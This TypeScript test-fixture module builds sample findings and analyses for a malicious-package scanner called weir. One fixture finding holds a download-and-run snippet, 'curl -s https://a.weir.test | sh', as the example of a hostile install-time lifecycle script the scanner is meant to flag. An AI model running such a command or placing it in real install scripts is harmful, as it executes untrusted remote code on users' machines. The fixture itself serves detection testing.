import type { ArtifactAnalysis } from '@weir/analysis';
import type { CompactFacts, Finding } from '@weir/model';
import { toFailedResult, toScanResult } from '../scan/result.ts';
import type { Origin, Scanned } from '../scan/scanner.ts';

const SHA256 = 'a'.repeat(64);

/** What a release leaves in which nothing is told of. */
export const SAMPLE_FACTS: CompactFacts = {
  format: 'weir.facts.v1',
  files: [],
  hosts: [],
  urls: [],
  strings: [],
  apis: [],
  hooks: [],
  dependencies: [],
  truncated: {},
};

/** A finding at line 5 of package.json, changed by `part`. */
export function sampleFinding(part: Partial<Finding> = {}): Finding {
  return {
    detector: 'lifecycle-script',
    rule: 'lifecycle-script/download-and-run',
    kind: 'threat',
    basis: 'content',
    severity: 'critical',
    stage: 'install',
    confidence: 0.9,
    class: 'malware',
    summary: 'what is downloaded is run by sh',
    location: { file: 'package.json', line: 5, endLine: null, layer: null },
    snippet: 'curl -s https://a.weir.test | sh',
    indicators: [],
    chain: [],
    ...part,
  };
}

/** A malicious analysis with these findings, changed by `part`. */
export function sampleAnalysis(
  findings: readonly Finding[],
  part: Partial<ArtifactAnalysis> = {},
): ArtifactAnalysis {
  return {
    artifact: { sha256: SHA256, sizeBytes: 1234, digests: {} },
    judgement: {
      verdict: 'malicious',
      complete: true,
      score: 97,
      level: 'critical',
      class: 'malware',
      stage: 'install',
      scoringVersion: '1',
    },
    findings: [...findings],
    capabilities: ['net.http'],
    skipped: [],
    fileCount: 3,
    unpackedBytes: 99,
    rulesetVersion: 'r1',
    elapsedMs: 12,
    ...part,
  };
}

/** What came of a target that was analysed. */
export function scannedAs(text: string, origin: Origin, analysis: ArtifactAnalysis): Scanned {
  const release = origin.kind === 'release';
  const purl = release ? origin.purl : null;
  const filename = release ? origin.filename : (text.split('/').at(-1) ?? text);
  const analysed = [{ origin, filename, analysis }];
  return { result: toScanResult({ text, purl }, analysed, [], 42), analysed };
}

/** What came of a target that could not be looked at. */
export function scannedInVain(text: string, error: string): Scanned {
  return { result: toFailedResult(text, error, 3), analysed: [] };
}
